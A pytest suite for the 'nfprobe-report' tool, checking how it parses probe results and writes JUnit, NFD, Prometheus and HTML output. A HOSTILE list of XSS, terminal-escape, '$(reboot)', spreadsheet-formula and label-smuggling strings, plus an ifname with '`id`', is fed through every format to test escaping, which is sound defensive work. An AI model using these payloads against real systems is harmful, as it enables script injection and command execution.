# SPDX-License-Identifier: GPL-2.0-or-later
"""nfprobe-report: what is read and what is refused, each format as the programs that read it take it, and that nothing which a
result says is markup, a directive, a label or a command."""

import copy
import datetime
import io
import json
import os
import random
import re
import stat
import subprocess
import sys
import time
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
import tool
from nfprobe_tools import VERSION, Failure, cases, check_text, command, compare, files, inputs, labels, matrix, metrics, page, rules, share
from nfprobe_tools import report as tools_report
from nfprobe_tools import result as reading
from nfprobe_tools import text as texts
from nfprobe_tools.subject import subject_of
from nfprobe_tools.words import VERDICTS
from prometheus_client.parser import text_string_to_metric_families
from tool import along, places, put

NOW = 1_764_000_000

GOLDEN = os.path.join(tool.TOP, "tests/golden/tools")
IGB, PEER = tool.golden("igb.json"), tool.golden("reflector.json")
FORMATS = {"junit": cases.write_junit, "nfd": labels.write_nfd, "prometheus": metrics.write_prometheus,
           "html": page.write_html}
# A terminal, a CI system, markup or one of the formats would take these for more than text.
HOSTILE = ('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "x' onload='y", "]]>&amp;", "a\\\"} 1\nnfprobe_x 1", "# SKIP",
           "a # ERROR", "\x1b[2J\x9b31m", "two\nlines\r\n", "nul\0", "\u202egpj.exe", "\u2028next", "\ud800", "{{ 7 * 7 }}", "{% raw %}",
           "$(reboot)`", "%s%n", "=cmd|' /C calc'!A0", "javascript:alert(1)", "é\U0001f600", "feature.node.kubernetes.io/x=y",
           *tool.COMMANDS)


def parse(document, ladders=True):
    return reading.parse(json.dumps(document).encode(), "x.json", ladders)


def write(name, *documents):
    out = io.BytesIO()
    FORMATS[name]([subject_of(parse(document)) for document in documents], out)
    return out.getvalue().decode()


def changed(base=IGB, **keys):
    return {**copy.deepcopy(base), **keys}


def report(*args, **options):
    done = tool.run("nfprobe-report", *args, **options)
    assert "Traceback" not in done.stderr
    return done


def save(path, document):
    path.write_text(document if isinstance(document, str) else json.dumps(document))
    return path


# ---- what is read ----

def test_the_model():
    result = parse(PEER)
    assert (result.run.host, result.pf.ifname, result.vf.vf, result.exit, result.verdict) == ("hv1", "eth0", 3, 1, "early")
    assert result.source == reading.Source("peer:02:ab:00:00:00:01", "wire", "peer", "")
    macvtap, bridge = result.styles
    assert (macvtap.verdict, bridge.verdict, len(macvtap.steps), bridge.transitions[0].gap_us) == ("safe", "early", 3, 312000)
    assert macvtap.steps[1].unicast == reading.Count(1500, "pf", 1500, 0, 0, 0, 0)
    assert parse(PEER, ladders=False).styles[0].steps == ()
    with pytest.raises(AttributeError):
        result.verdict = "safe"


@pytest.fixture(autouse=True)
def now(monkeypatch):
    monkeypatch.setattr(metrics, "now_s", lambda: NOW)
    monkeypatch.setattr(labels, "now_ms", lambda: NOW * 1000)


def test_answer_life_and_advice():
    result = parse(IGB)
    assert result.answer == IGB["answer"] and [row.style for row in result.life] == ["macvtap", "bridge"]
    assert result.life[1].cells == ("lost", "ok", "lost", "lost", "ok", "lost", "ok")
    assert [one.document or "" for one in result.advice] == [(one["document"] or "").strip("\n") for one in IGB["advice"]]
    assert len(result.advice[0].block()) > 1  # lines to be copied stay lines
    needs = [reading.needs_words(result.conditions_of(row.style)) for row in result.life]
    assert needs[0] == "IPv6: set trustGuestRxFilters; clear the VF's address once the guest has left"
    assert check_text.legend(result).startswith("LOST: nothing arrives; *: with trustGuestRxFilters")
    lacking = {key: value for key, value in IGB.items() if key not in ("answer", "conditions", "life", "advice")}
    assert (parse(lacking).answer, parse(lacking).conditions, parse(lacking).life, parse(lacking).advice) == ("", (), (), ())


@pytest.mark.parametrize("change", (
    {"error": {"code": "timeout", "message": "the run took longer than --timeout allows", "hint": None}}, {"restored": False},
    {"vf": {**IGB["vf"], "status": "failed"}}))
def test_what_a_run_found_that_counts_for_nothing(change):
    """No tool says yes of it, as nfprobe-check says none."""
    found = subject_of(parse({**copy.deepcopy(IGB), "exit": 3, **change}))
    assert rules.tested_of(found.result)[0].verdict == "unknown"
    assert [entry.verdict for entry in found.entries] == ["unknown", "early"]
    assert next(suite.cases for suite in cases.suites_of(found) if suite.entry)[-1].outcome == cases.ERROR
    out = io.BytesIO()
    metrics.write_prometheus([found], out)
    said = [line for line in out.getvalue().decode().splitlines() if 'verdict="safe"' in line]
    assert said and all(line.endswith(" 0.0") for line in said)


JSON = "it is damaged, or not JSON"
NO_RESULT = "it is no result of nfprobe"


@pytest.mark.parametrize("data, why", [
    (b"", JSON), (b"{", JSON), (b"\xff\xfe", JSON), (b'"\\', JSON), (b"1" * 5000, JSON), (b"[" * 100000, JSON), (b'{"a":' * 100000, JSON),
    (b"NaN", JSON), (json.dumps(IGB).encode()[:-1], JSON), (b"[]", NO_RESULT), (b"3", NO_RESULT), (b"{}", NO_RESULT), (b"null", NO_RESULT),
    (b'{"schema": true, "run": {}, "vf": null}', NO_RESULT), (b'{"schema": 5, "pfs": []}', NO_RESULT),
    (b'{"schema": 5, "run": {}}', "version is missing"), (b'{"schema": 5, "schema": 5, "run": {}}', JSON),
    (json.dumps({key: value for key, value in IGB.items() if key != "vf"}).encode(), "vf is missing"),
    (json.dumps({**IGB, "vf": [1]}).encode(), "vf is not an object"),
    (json.dumps({**IGB, "source": "eth1"}).encode(), "source is not an object"),
    (json.dumps({**IGB, "exit": True}).encode(), "exit is not a number"),
    (json.dumps({**IGB, "life": [IGB["life"][0], {**IGB["life"][1], "style": 3}]}).encode(), "life[1].style is not a string"),
    (b" " * (reading.LIMITS.bytes + 1), "it is larger than 8 MB"), (b"[" + b"1," * reading.LIMITS.values + b"1]", "values"),
], ids=lambda value: repr(value)[:30])
def test_what_is_refused(data, why):
    with pytest.raises(reading.InputError) as caught:
        reading.parse(data, "dir/x\033.json")
    text = str(caught.value)
    assert text.startswith("cannot use dir/x?.json: it ") and why in text and "\n" not in text


def of_schema(number, document=IGB, **more):
    return {**document, "schema": number, **more}


@pytest.mark.parametrize("document, again", [
    (of_schema(4), "nfprobe eth0 --vf 3 --save"), (of_schema(3, style="x", vf=None), "nfprobe eth0 --vf any --save"),
    ({"schema": 4, "run": {}}, "nfprobe PF --vf any --save"), ({"schema": 4, "run": 1, "pf": [], "vf": [3]}, "nfprobe PF --vf any --save"),
    (of_schema(99, vf={"vf": "x"}, pf={"ifname": 3}), "nfprobe PF --vf any --save"),
    (of_schema(4, pf={"ifname": "-x;`id`"}), "nfprobe --vf 3 --save -- '-x;`id`'"),
])
def test_a_result_of_another_schema_is_not_known(document, again):
    with pytest.raises(reading.OtherSchema) as caught:
        reading.parse(json.dumps(document).encode(), "x.json")
    assert str(caught.value) == (f"cannot use x.json: it has schema {document['schema']}, and this version reads schema "
                                 f"{reading.SCHEMA}: {again} makes a new one")
    assert caught.value.status == 3


SAID = f"nfprobe-report: cannot use old.json: it has schema 4, and this version reads schema {reading.SCHEMA}: " \
    "nfprobe eth0 --vf 3 --save makes a new one\n"


def test_no_format_says_anything_of_another_schema(folder):
    """Neither what was safe nor what was not: the status is that of what is not known."""
    save(folder / "old.json", of_schema(4))
    for name in FORMATS:
        done = report(name, "old.json", "-o", "out")
        assert (done.returncode, done.stdout, done.stderr) == (3, "", SAID) and not (folder / "out").exists()
    for words in (("text", "old.json"), ("share", "old.json")):
        done = report(*words)
        assert (done.returncode, done.stdout, done.stderr) == (3, "", SAID)
    done = report("matrix", "old.json")
    assert (done.returncode, done.stdout) == (3, "")
    assert done.stderr == SAID + "nfprobe-report: no result could be read\n"
    # Beside one that can be read, that one counts.
    done = report("nfd", "a.json", "old.json")
    assert (done.returncode, done.stderr) == (3, SAID) and done.stdout == report("nfd", "a.json").stdout
    for words in ((), ("--json",), ("--html",)):
        done = report("matrix", *words, "a.json", "old.json")
        assert done.returncode == 1 and SAID in done.stderr
        if words:
            assert "nfprobe eth0 --vf 3 --save makes a new one" in done.stdout
    save(folder / "torn.json", "{")
    assert report("junit", "torn.json", "old.json").returncode == 4


@pytest.mark.parametrize("words", [("old.json", "a.json"), ("a.json", "old.json"), ("--same", "old.json", "old.json")])
def test_another_schema_is_not_compared(folder, words):
    save(folder / "old.json", of_schema(4))
    done = report("compare", *words)
    assert (done.returncode, done.stdout, done.stderr) == (3, "", SAID)
    done = report("compare", "--json", *words)
    document = json.loads(done.stdout)
    tool.valid("compare", document)
    assert (done.returncode, document["exit"], document["differences"]) == (3, 3, [])
    assert document["not_compared"] in SAID and "makes a new one" in document["not_compared"]


def test_neither_vf_nor_source():
    nothing = parse({**IGB, "vf": None, "source": None})
    assert (nothing.vf, nothing.source, nothing.styles) == (None, None, ())


def shortened(value):
    """With two elements of each list: as many as places() has."""
    if isinstance(value, dict):
        return {key: shortened(one) for key, one in value.items()}
    return [shortened(one) for one in value[:2]] if isinstance(value, list) else value


@pytest.mark.parametrize("wrong", [1.5, -1, 1 << 80, "\ud800<x>", ["x", {}], {"x": []}, True, None])
@pytest.mark.slow
def test_wrong_types_anywhere(wrong):
    """Each value in turn is of another type: it is taken, or refused with a sentence that names it."""
    refused, small = 0, shortened(PEER)
    for where in places(small):
        document = along(small, where, wrong)
        try:
            parse(document)
        except reading.InputError as error:
            assert re.fullmatch(r"cannot use x\.json: it (is|has) [^\n]*", str(error))
            refused += 1
    assert refused > 50


@pytest.mark.parametrize("piece", [b"[],", b"{", b"1,", b" ", b'"steps":[', b'"', b'\\"', b'{"a":', b"9", b"[[],{}],", b"1e9,"])
@pytest.mark.slow
def test_large_files(piece):
    """Each of these is small, but large in memory, or takes long to look through."""
    for start in (b"", b"["):
        begin = time.process_time()
        with pytest.raises(reading.InputError):
            reading.parse(start + piece * (reading.LIMITS.bytes // 2 // len(piece)), "x")
        assert time.process_time() - begin < 10


def test_files_pipes_and_devices(tmp_path):
    huge = tmp_path / "huge.json"
    huge.touch()
    os.truncate(huge, 1 << 30)
    for path, why in ((huge, "it is larger than 8 MB"), (tmp_path, "it is neither a file nor"), ("/dev/null", "it is neither a file nor"),
                      (tmp_path / "nosuch", "No such file or directory"), ("a\0b", "it has an impossible name")):
        with pytest.raises(reading.InputError, match=why):
            reading.load(str(path))
    os.mkfifo(tmp_path / "fifo")
    with subprocess.Popen(["cat", os.path.join(tool.documents(), "igb.json")], stdout=subprocess.PIPE) as cat:
        assert reading.load(cat.stdout.fileno()).pf.ifname == "eth0"


# ---- goldens ----

GOLDENS = {"igb.xml": ("junit", IGB), "igb.nfd": ("nfd", IGB), "igb.prom": ("prometheus", IGB),
           "reflector.html": ("html", PEER)}


@pytest.mark.parametrize("name", GOLDENS)
def test_golden(name):
    """NFPROBE_GOLDEN_WRITE=1 writes them anew. A page is there without its style and its script, which page.html has."""
    written, path = re.sub(r"(?s)(<(style|script)>).*?(</\2>)", r"\1\3", write(*GOLDENS[name])), os.path.join(GOLDEN, name)
    if os.environ.get("NFPROBE_GOLDEN_WRITE"):
        with open(path, "w", encoding="utf-8") as file:
            file.write(written)
    with open(path, encoding="utf-8") as file:
        assert written == file.read()


def test_what_was_allowed_is_no_failure():
    allowed = copy.deepcopy(IGB)
    allowed["vf"]["styles"][1]["allowed"] = True
    xml = ElementTree.fromstring(write("junit", allowed))
    assert (xml.get("failures"), xml.findall("testsuite")[1].get("skipped")) == ("0", "6")


# ---- what proves nothing ----

def proves_nothing(**keys):
    """Safe in each style, but for what nfprobe-check would say."""
    found = changed(verdict="safe", exit=0, **keys)
    for style in found["vf"]["styles"]:
        style.update(verdict="safe", steps=style["steps"][:2])
    return found


INSIDE = [proves_nothing(source={"from": name, "kind": name[:2], "by": name[:2], "note": None}) for name in ("vf:2", "pf")]
HURRIED = proves_nothing(settings={**IGB["settings"], "settle_ms": 500, "settle_short": True})


@pytest.mark.parametrize("document, why", [
    (INSIDE[0], "frames came from vf:2, not from the wire"), (INSIDE[1], "frames came from pf, not from the wire"),
    (HURRIED, "each state was watched for only 0.5 s, less than the driver may need")])
def test_what_proves_nothing_is_green_nowhere(document, why):
    xml = ElementTree.fromstring(write("junit", document))
    errors = xml.findall("testsuite/testcase[@name='verdict']/error")
    assert [(error.get("type"), error.get("message").split(": ")[1]) for error in errors] == [("unproven", why)] * 2
    assert write("nfd", document).splitlines()[2:] == [f"# no label: {style}: {why}" for style in ("macvtap", "bridge")]
    samples = [line for line in write("prometheus", document).splitlines() if line.startswith("nfprobe_verdict") and line.endswith(" 1.0")]
    assert [re.search('verdict="([a-z]*)"', line)[1] for line in samples] == ["unknown"] * 2
    shown = write("html", document)
    assert shown.count(f'<b class="unsure">UNKNOWN</b> With macvtap or a bridge, {why}.') == 1 and 'class="safe">SAFE' not in shown


def test_by_allow_no_wire_is_no_plain_safe():
    """Who has no cable may say so; who reads a label or a metric has not."""
    document = proves_nothing(source=INSIDE[0]["source"])
    for style in document["vf"]["styles"]:
        style.update(no_wire=True)
    why = "by --allow no-wire: frames came from vf:2, not from the wire"
    xml = ElementTree.fromstring(write("junit", document))
    assert not xml.findall("testsuite/testcase[@name='verdict']/error") and why in "".join(xml.itertext())
    labels = [line for line in write("nfd", document).splitlines() if "=" in line and not line.startswith("#")]
    assert [line for line in labels if not line.endswith("=safe-by-no-wire") and ".needs=" not in line] == []
    samples = [line for line in write("prometheus", document).splitlines() if line.startswith("nfprobe_verdict") and line.endswith(" 1.0")]
    assert [re.search('verdict="([a-z-]*)"', line)[1] for line in samples] == ["safe-by-no-wire"] * 2
    shown = write("html", document)
    assert shown.count(f'<b class="unsure">SAFE</b> With macvtap or a bridge, {why}.') == 1 and 'class="safe">SAFE' not in shown


def test_a_label_is_about_guests_without_a_vlan():
    document = copy.deepcopy(IGB)
    document["vf"]["styles"][0].update(verdict="deaf", decided_by="vlan", why="safe", guest_vlan={"vlan": 100, "verdict": "lost"})
    lines = write("nfd", document).splitlines()
    assert {f"{labels.PREFIX}eth0.macvtap=safe", f"{labels.PREFIX}eth0.macvtap.vlan100=lost"} <= set(lines)
    document["vf"]["styles"][0]["decided_by"] = "steps"
    assert f"{labels.PREFIX}eth0.macvtap=deaf" in write("nfd", document)


def test_the_wire_has_proved_what_a_sibling_cannot():
    good = proves_nothing()
    assert f"{labels.PREFIX}eth0.macvtap=safe\n" in write("nfd", good, INSIDE[0])
    fix = copy.deepcopy(INSIDE[0])
    fix["vf"]["styles"][1]["fix"] = "pin"
    assert write("junit", fix).count("<error ") == 1


# ---- hostile strings in each field, through each format ----

def texts_of(document):
    """Where a document may have any text."""
    found = []
    for where in places(document):
        value = document
        for key in where:
            value = value[key]
        if isinstance(value, str) or value is None:
            try:
                parse(along(document, where, "any text"))
            except reading.InputError:
                continue
            found.append(where)
    return found


FIELDS = texts_of(PEER)


def hostile(rng, base=PEER):
    """With a hostile text in each field that takes any."""
    document = base
    for where in FIELDS:
        document = put(document, where, rng.choice(HOSTILE))
    document = put(document, ("warnings",), list(HOSTILE))
    return put(document, ("error",), {"code": "kernel", "message": rng.choice(HOSTILE),
                                      "hint": {"text": rng.choice(HOSTILE), "commands": []}}) \
        if rng.random() < 0.3 else document


def is_plain(text):
    return not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff\ufffe]", text) \
        and not tool.has_command(text)


class Page(HTMLParser):
    """The tags, attributes and text that a browser would find in a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.text = set(), set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


def skeleton(text):
    parsed = Page()
    parsed.feed(text)
    return parsed


@pytest.mark.parametrize("seed", range(12))
@pytest.mark.slow
def test_nothing_that_a_result_says_is_more_than_text(seed):
    assert len(FIELDS) > 40
    document = hostile(random.Random(seed))
    error = bool(document["error"])
    for name in FORMATS:
        assert is_plain(write(name, document)), name
    # The elements and attributes are those of a harmless result.
    xml = ElementTree.fromstring(write("junit", document))
    assert {element.tag for element in xml.iter()} <= {"testsuites", "testsuite", "properties", "property", "testcase", "failure", "error",
                                                       "skipped", "system-out"}
    assert len(xml.findall("testsuite")) == 2 + error
    ours, plain = skeleton(write("html", document)), skeleton(write("html", put(PEER, ("warnings",), ["a warning"])))
    assert ours.tags <= plain.tags and ours.attributes <= plain.attributes
    assert texts.clean(document["warnings"][0]) in "".join(ours.text)
    for line in write("nfd", document).splitlines():
        assert re.fullmatch(r"#.*|feature\.node\.kubernetes\.io/nfprobe\.[-A-Za-z0-9_.]{1,50}=[a-z]([-a-z.]*[a-z])?", line), line
    samples = {sample.name for metric in text_string_to_metric_families(write("prometheus", document)) for sample in metric.samples}
    assert all(name.startswith("nfprobe_") for name in samples) and "nfprobe_x" not in samples


@pytest.mark.parametrize("seed", range(6))
@pytest.mark.slow
def test_nor_in_what_is_printed(tmp_path, seed):
    rng = random.Random(seed)
    one, other = hostile(rng), hostile(rng)
    other["run"]["kernel"] = "6.13"
    old, new = save(tmp_path / "old.json", one), save(tmp_path / "##[new\033::.json", other)
    for args in (("compare", old, new), ("compare", "--json", old, new), ("matrix", "-v", old, new), ("matrix", "--json", old, new),
                 ("matrix", "--html", old, new), ("share", old), ("junit", new), ("junit", tmp_path / "::no\033")):
        done = report(*args)
        assert is_plain(done.stdout) and is_plain(done.stderr), args


# ---- the command ----

@pytest.fixture(name="folder")
def a_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    save(tmp_path / "a.json", IGB)
    return tmp_path


@pytest.mark.slow
def test_many_files(folder):
    save(folder / "b.json", changed(run={**IGB["run"], "id": "1" * 32}))
    xml = ElementTree.fromstring(report("junit", "a.json", "b.json").stdout)
    assert (len(xml), xml.get("tests"), xml.get("failures")) == (4, "60", "12")
    assert len(ElementTree.fromstring(report("junit", ".").stdout).findall("testsuite")) == 4
    with open("a.json", encoding="utf-8") as file:
        assert report("nfd", stdin=file).stdout == write("nfd", IGB)


def test_a_page_of_many_has_few_drawings(folder, monkeypatch):
    """Results after the first few are read and shown without their steps, with the command that shows the steps."""
    for number in range(4):
        save(folder / f"{number}.json", changed(run={**IGB["run"], "id": str(number) * 32}))
    monkeypatch.setattr(page, "WHOLE", 2)
    read = inputs.Inputs([str(folder)], ladders=2)
    subjects = [subject_of(result) for result in read]
    assert [bool(subject.entries[0].style.steps) for subject in subjects] == [True, True, False, False, False]
    out = io.BytesIO()
    page.write_html(subjects, out)
    text = out.getvalue().decode()
    assert (text.count("<article>"), text.count('class="time"'), text.count("All counts")) == (5, 2, 2)
    assert text.count("nfprobe-report html ") == 3 and f"nfprobe-report html {folder}/3.json shows them" in text


def test_what_cannot_be_read_stops_nothing(folder):
    save(folder / "torn.json", json.dumps(IGB)[:100])
    done = report("junit", "nosuch", "torn.json", "a.json")
    assert done.returncode == 4 and done.stdout == write("junit", IGB)
    assert done.stderr.splitlines() == ["nfprobe-report: cannot use nosuch: No such file or directory",
                                        "nfprobe-report: cannot use torn.json: it is damaged, or not JSON"]
    (folder / "out").write_text("old")
    done = report("junit", "torn.json", "-o", "out")
    assert (done.returncode, done.stdout, (folder / "out").read_text()) == (4, "", "old")


@pytest.mark.slow
def test_output_is_whole_or_not_at_all(folder):
    (folder / "out").write_text("old")
    (folder / "out").chmod(0o640)
    assert report("html", "a.json", "-o", "out").returncode == 0
    assert (folder / "out").read_text() == write("html", IGB) and stat.S_IMODE((folder / "out").stat().st_mode) == 0o640
    (folder / "target").write_text("target")
    (folder / "link").symlink_to("target")
    (folder / "dangling").symlink_to("nosuch")
    os.mkfifo(folder / "fifo")
    for path, why in (("link", "it is a symbolic link"), ("dangling", "it is a symbolic link"), ("fifo", "it is not a regular file"),
                      ("/dev/null", "it is not a regular file"), ("no/such", "No such file or directory"), (".", "Is a directory")):
        done = report("junit", "a.json", "-o", path)
        assert done.returncode == 4 and done.stderr.startswith(f"nfprobe-report: cannot write {path}: {why}")
    assert (folder / "target").read_text() == "target" and not (folder / "nosuch").exists()
    assert sorted(name for name in os.listdir(folder) if name.startswith(".")) == []


def test_a_file_that_fails_leaves_the_old_one(folder):
    (folder / "out").write_text("old")
    with pytest.raises(ZeroDivisionError), files.replacing(str(folder / "out")) as file:
        file.write(b"half")
        raise ZeroDivisionError
    assert (folder / "out").read_text() == "old" and sorted(os.listdir(folder)) == ["a.json", "out"]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root replaces what others own")
def test_what_another_owned_is_not_theirs_to_write(folder):
    (folder / "out").write_text("old")
    (folder / "out").chmod(0o666)
    os.chown(folder / "out", 65534, 65534)
    assert report("nfd", "a.json", "-o", "out").returncode == 0
    found = (folder / "out").stat()
    assert (found.st_uid, stat.S_IMODE(found.st_mode)) == (0, 0o644)


def test_nobody_reads(folder):
    assert folder
    for device in ("/dev/full", None):
        out = open(device, "w", encoding="ascii") if device else subprocess.PIPE
        with subprocess.Popen([sys.executable, tool.script("nfprobe-report"), "junit", "a.json"], stdout=out, stderr=subprocess.PIPE,
                              text=True) as program:
            if not device:
                program.stdout.close()
                program.stdout = None
            stderr = program.communicate()[1]
        assert program.returncode == 4
        # A reader that has gone, such as head, has all that it wanted.
        assert stderr == ("nfprobe-report: the report could not be written: No space left on device\n" if device else "")


def test_the_same_spellings_as_nfprobe():
    assert command.style_list("direct,BRIDGE") == ["macvtap", "bridge"] and command.style_list("ALL") == command.style_list("all")
    assert matrix.split_list("EARLY,deaf") == matrix.split_list("early,deaf")
    # No abbreviations: a script that has one would mean something else once there is another option.
    done = report("matrix", "--sty", "macvtap", "a.json")
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "nfprobe-report: --sty is not an option")


@pytest.mark.parametrize("words, said, hint", (
    (("matix",), "matix is not a format", "Did you mean matrix?"),
    (("matrix", "--alow"), "--alow is not an option", "Did you mean --allow?"),
    (("html", "--stord"), "--stord is not an option", "Did you mean --stored?"),
    (("junit", "--zzz"), "--zzz is not an option", "nfprobe-report junit --help lists the options."),
    (("zzz",), "zzz is not a format", "It takes junit, nfd, prometheus, html, matrix, compare, text, share.")))
def test_what_was_meant(words, said, hint):
    done = report(*words)
    assert (done.returncode, done.stderr.splitlines()) == (2, [f"nfprobe-report: {said}", hint])


@pytest.mark.parametrize("words, message", [
    ((), "the following arguments are required: FORMAT"), (("pdf",), "pdf is not a format"), (("junit", ""), "a file has an empty name"),
    (("junit", "--nosuch"), "--nosuch is not an option"),
    (("share", "a", "b"), '"b" is one argument too many: it takes one result'),
    (("compare", "x"), "the following arguments are required: NEW")])
def test_usage_errors(words, message):
    done = report(*words)
    assert (done.returncode, done.stdout) == (2, "") and message in done.stderr


@pytest.mark.slow
def test_options_that_are_none():
    """One that is misspelt is answered with what was probably meant."""
    for name in ("nfprobe-all", "nfprobe-check"):
        done = tool.run(name, "--via", "vf:3")
        assert (done.returncode, done.stderr) == (2, f"{name}: --via is not an option\n{name} --help lists the options.\n")
        done = tool.run(name, "--stlye", "macvtap")
        assert (done.returncode, done.stderr) == (2, f"{name}: --stlye is not an option\nDid you mean --style?\n")


@pytest.mark.parametrize("name, command", (("nfprobe-report", "matrix"), ("nfprobe-report", "compare"), ("nfprobe-check", ""),
                                           ("nfprobe-all", "")))
@pytest.mark.slow
def test_one_wording_for_the_same_mistake(folder, name, command):
    """The commands agree on an option that is mistyped, on the version, and on what readers of JSON get."""
    words = [command] * bool(command)
    for option in ("-V", "--version"):
        done = tool.run(name, option)
        assert (done.returncode, done.stdout, done.stderr) == (0, f"{name} {VERSION}\n", "")
    helped = " ".join([name, *words, "--help"])
    said = f"{name}: --nosuch is not an option\n{helped} lists the options.\n"
    words += ["a.json", "b.json"] * (command == "compare")
    done = tool.run(name, *words, "--nosuch")
    assert (done.returncode, done.stdout, done.stderr) == (2, "", said)
    done = tool.run(name, *words, "--json", "--nosuch")
    document = json.loads(done.stdout)
    tool.valid(words[0] if words else name[len("nfprobe-"):], document)
    assert (done.returncode, document["exit"], document["error"], done.stderr) == (2, 2, {
        "code": "usage", "message": "--nosuch is not an option", "hint": f"{helped} lists the options."}, said)
    if not words:
        assert tool.run(name, "--nosuch", f"--json={folder}/out.json", "--json").stdout == done.stdout
        assert tool.run(name, "--nosuch", "--json", f"--json={folder}/out.json").stdout == ""
        assert json.loads((folder / "out.json").read_text()) == document
        done = tool.run(name, "--nosuch", "--json=/nosuch/out.json")
        assert (done.returncode, done.stderr) == (2, said + f"{name}: cannot write /nosuch/out.json: No such file or directory\n")
    # Behind -- there are no options.
    assert tool.run(name, *words, "--nosuch", "--", "--json").stdout == ""


# ---- what the store has ----

HOST = {"schema": reading.SCHEMA, "version": "x", "kernel": "6.12.95", "pfs": [], "exit": 0}


@pytest.fixture(name="store")
def a_store(folder):
    """A store with one result, and the host that it is of."""
    (folder / "store/pci-0000:01:00.0").mkdir(parents=True)
    save(folder / "store/pci-0000:01:00.0/20261120T100000.123Z-00.json", IGB)
    host = tool.golden("list-full.json")
    pf = host["pfs"][0]
    pf.update({key: IGB["pf"][key] for key in pf if key in IGB["pf"]})
    vf = next(vf for vf in pf["vfs"] if vf["vf"] == 3)
    vf.update({key: IGB["vf"][key] for key in ("trust", "spoofchk", "vlan", "driver", "driver_version")})
    vf["hands_over"], host["pfs"] = False, [pf]
    vf.pop("unread", None)
    pf.pop("unread", None)
    save(folder / "host.json", host)
    return host


def stored(name, *args):
    return report(name, "--stored", "--store", "store", "--host", "host.json", *args)


@pytest.mark.slow
def test_stored_results_that_hold(store, folder):
    assert stored("nfd", "eth0").stdout.splitlines()[2:] == write("nfd", IGB).splitlines()[2:]
    assert "nfprobe_stale{device=\"eth0\",style=\"macvtap\"} 0.0" in stored("prometheus").stdout
    xml = ElementTree.fromstring(stored("junit").stdout)
    assert (xml.get("tests"), xml.get("errors")) == ("30", "0")
    assert "eth0: macvtap SAFE (IPv6: set trustGuestRxFilters), bridge NOT SAFE (EARLY)." in stored("html").stdout
    store["pfs"][0]["firmware"] = "2.2.0"
    save(folder / "host.json", store)
    assert "# no label: macvtap: firmware was 2.1.0, is 2.2.0" in stored("nfd").stdout
    assert "nfprobe_stale{device=\"eth0\",style=\"macvtap\"} 1.0" in stored("prometheus").stdout
    case = ElementTree.fromstring(stored("junit").stdout).find(".//testcase[@name='verdict']/error")
    assert (case.get("type"), case.get("message")[:33]) == ("stale", "firmware was 2.1.0, is 2.2.0; it ")


@pytest.mark.slow
def test_a_site_that_uses_one_style(store, folder):
    """Each reader of the store takes what the service takes: a style that nobody has asked for is neither missing nor stale."""
    (path,) = (folder / "store/pci-0000:01:00.0").iterdir()
    document = json.loads(path.read_text())
    document["vf"]["styles"] = document["vf"]["styles"][:1]
    save(path, document)
    said = stored("prometheus", "eth0").stdout
    assert 'nfprobe_stale{device="eth0",style="bridge"} 1.0' in said and 'nfprobe_exit_status{device="eth0"} 3.0' in said
    said = stored("prometheus", "--style", "macvtap", "eth0").stdout
    assert 'style="bridge"' not in said and 'nfprobe_stale{device="eth0",style="macvtap"} 0.0' in said
    assert 'nfprobe_exit_status{device="eth0"} 0.0' in said
    assert "no label" not in stored("nfd", "--style", "macvtap", "--vlan", "0").stdout
    assert "no label: macvtap" in stored("nfd", "--style", "macvtap", "--vlan", "5").stdout
    for name in ("text", "share"):
        assert stored(name, "eth0", "--style", "macvtap", "--vlan", "0").returncode == 0
        assert stored(name, "eth0", "--style", "bridge").returncode == stored(name, "eth0", "--vlan", "5").returncode == 3
    done = report("nfd", "--style", "macvtap", "a.json")
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "nfprobe-report: --style makes no sense without --stored")


@pytest.mark.slow
def test_labels_expire_because_their_writer_died(store, folder):
    """Not because the run is long ago, which nfprobe-check does not mind either; each PF has its own directive."""
    def until(*args):
        found = re.findall(r"^# \+expiry-time=(.*)Z$", stored("nfd", *args).stdout, re.M)
        return [datetime.datetime.fromisoformat(f"{text}+00:00") - datetime.datetime.now(datetime.timezone.utc) for text in found]
    assert [round(left.total_seconds() / 3600) for left in until()] == [72]  # the timer's day
    assert [round(left.total_seconds() / 60) for left in until("--every", "5")] == [15]
    # Of files, which nobody writes again, the run decides.
    second = put(put(put(IGB, ("pf", "ifname"), "eth7"), ("pf", "parentdev"), "0000:07:00.0"), ("run", "start"), "2026-11-24T10:00:00.123Z")
    save(folder / "second.json", second)
    lines = report("nfd", "a.json", "second.json").stdout.splitlines()
    assert [line for line in lines if "expiry" in line] == ["# +expiry-time=2026-12-20T10:00:00Z", "# +expiry-time=2026-12-24T10:00:00Z"]
    assert ".eth7." in lines[-1] and ".eth7." not in "".join(lines[:lines.index("# +expiry-time=2026-12-24T10:00:00Z")])


@pytest.mark.slow
def test_what_is_stored_in_another_schema(store, folder):
    """It was safe, and early: now neither is known."""
    (path,) = (folder / "store/pci-0000:01:00.0").iterdir()
    save(path, of_schema(4, json.loads(path.read_text())))
    why = "stored as schema 4, which this version does not read: Probe again: nfprobe eth0 --vf 3 --save=store"
    said = f"nfprobe-report: cannot use store/pci-0000:01:00.0/{path.name}: it has schema 4, and this version reads schema " \
        f"{reading.SCHEMA}: nfprobe eth0 --vf 3 --save makes a new one\n"
    assert stored("nfd").stdout.splitlines()[1:] == [f"# no label: macvtap: {why}", f"# no label: bridge: {why}"]
    for name in FORMATS:
        done = stored(name)
        assert (done.returncode, done.stderr) == (3, said), name
    for name in ("text", "share"):
        assert (stored(name).returncode, stored(name).stdout, stored(name).stderr) == (3, "", said)
    assert "nfprobe_stale{device=\"eth0\",style=\"macvtap\"} 1.0" in stored("prometheus").stdout
    assert "nfprobe_verdict{" not in stored("prometheus").stdout
    assert "UNKNOWN (stored as schema 4)" in stored("html").stdout and store


@pytest.mark.slow
def test_nothing_stored(store, folder):
    assert store
    for path in (folder / "store/pci-0000:01:00.0").iterdir():
        path.unlink()
    assert stored("nfd").stdout.splitlines()[1:] == ["# no label: macvtap: nothing is stored", "# no label: bridge: nothing is stored"]
